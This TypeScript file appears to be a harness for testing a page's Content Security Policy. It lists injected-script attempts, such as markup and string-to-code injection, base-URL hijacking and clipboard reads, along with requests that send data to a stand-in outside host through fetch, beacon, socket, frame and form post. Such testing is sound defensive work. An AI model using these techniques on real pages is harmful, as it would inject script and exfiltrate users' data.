/**
 * What an injected script would try, sent to a page as text. Each returns whether it got through, as far as the page can
 * tell. `other` is the URL of another host, to which everything that could leave the page is sent.
 */
export type Attack = (other: string) => boolean | Promise<boolean>;

/** Those that are decided in the page. */
export const attacksInThePage: Readonly<Record<string, Attack>> = {
  'writing markup': () => {
    try {
      document.body.append(Object.assign(document.createElement('p'), { innerHTML: '<b>x</b>' }));
      return true;
    } catch {
      return false;
    }
  },
  'parsing a document': () => {
    try {
      return new DOMParser().parseFromString('<b>x</b>', 'text/html').body.children.length > 0;
    } catch {
      return false;
    }
  },
  'a policy of its own': () => {
    try {
      const factory: unknown = Reflect.get(window, 'trustedTypes');
      if (typeof factory !== 'object' || factory === null) return true;
      const create: unknown = Reflect.get(factory, 'createPolicy');
      if (typeof create === 'function') Reflect.apply(create, factory, ['evil', {}]);
      return true;
    } catch {
      return false;
    }
  },
  'a script in the page': () => {
    const script = document.createElement('script');
    try {
      script.textContent = 'window.wasAttacked = true';
    } catch {
      return false;
    }
    document.body.append(script);
    return Reflect.has(window, 'wasAttacked');
  },
  'text as code': () =>
    new Promise((resolve) => {
      try {
        Reflect.apply(setTimeout, window, ['window.wasRun = true', 0]);
      } catch {
        resolve(false);
      }
      // Timers of one delay run in their order.
      setTimeout(() => resolve(Reflect.has(window, 'wasRun')), 0);
    }),
  'an attribute as code': () => {
    try {
      document.body.setAttribute('onclick', 'window.wasClicked = true');
    } catch {
      return false;
    }
    document.body.click();
    return Reflect.has(window, 'wasClicked');
  },
  'a style attribute': () => {
    document.body.setAttribute('style', 'opacity: 0.5');
    const isStyled = getComputedStyle(document.body).opacity !== '1';
    document.body.removeAttribute('style');
    return isStyled;
  },
  'a style sheet in the page': () => {
    const style = document.createElement('style');
    style.textContent = 'body { opacity: 0.5 }';
    document.head.append(style);
    const isStyled = getComputedStyle(document.body).opacity !== '1';
    style.remove();
    return isStyled;
  },
  'a picture made of text': () =>
    new Promise((resolve) => {
      const image = new Image();
      image.addEventListener('load', () => resolve(true));
      image.addEventListener('error', () => resolve(false));
      image.src = 'data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==';
    }),
  'another base for addresses': (other) => {
    const base = Object.assign(document.createElement('base'), { href: `${other}/base/` });
    document.head.append(base);
    const isMoved = document.baseURI.startsWith(other);
    base.remove();
    return isMoved;
  },
  'the clipboard': () =>
    navigator.clipboard.readText().then(
      () => true,
      () => false,
    ),
};

/** Those that another host would notice: each asks it for the path of its name. `directive` is what stops it. */
export const attacksFromThePage: Readonly<Record<string, { readonly directive: string; readonly run: Attack }>> = {
  fetch: {
    directive: 'connect-src',
    run: (other) =>
      fetch(`${other}/fetch`).then(
        () => true,
        () => false,
      ),
  },
  beacon: { directive: 'connect-src', run: (other) => navigator.sendBeacon(`${other}/beacon`, 'token') },
  socket: {
    directive: 'connect-src',
    run: (other) => {
      try {
        return new WebSocket(`${other.replace('http', 'ws')}/socket`).url !== '';
      } catch {
        return false;
      }
    },
  },
  events: { directive: 'connect-src', run: (other) => new EventSource(`${other}/events`).url !== '' },
  picture: {
    directive: 'img-src',
    run: (other) => Object.assign(new Image(), { src: `${other}/picture` }).src !== '',
  },
  frame: {
    directive: 'frame-src',
    run: (other) => {
      const frame = Object.assign(document.createElement('iframe'), { src: `${other}/frame` });
      document.body.append(frame);
      return true;
    },
  },
  style: {
    directive: 'style-src-elem',
    run: (other) => {
      document.head.append(
        Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${other}/style` }),
      );
      return true;
    },
  },
  form: {
    directive: 'form-action',
    run: (other) => {
      const form = document.createElement('form');
      document.body.append(Object.assign(form, { action: `${other}/form`, method: 'post', target: 'elsewhere' }));
      form.submit();
      return true;
    },
  },
};
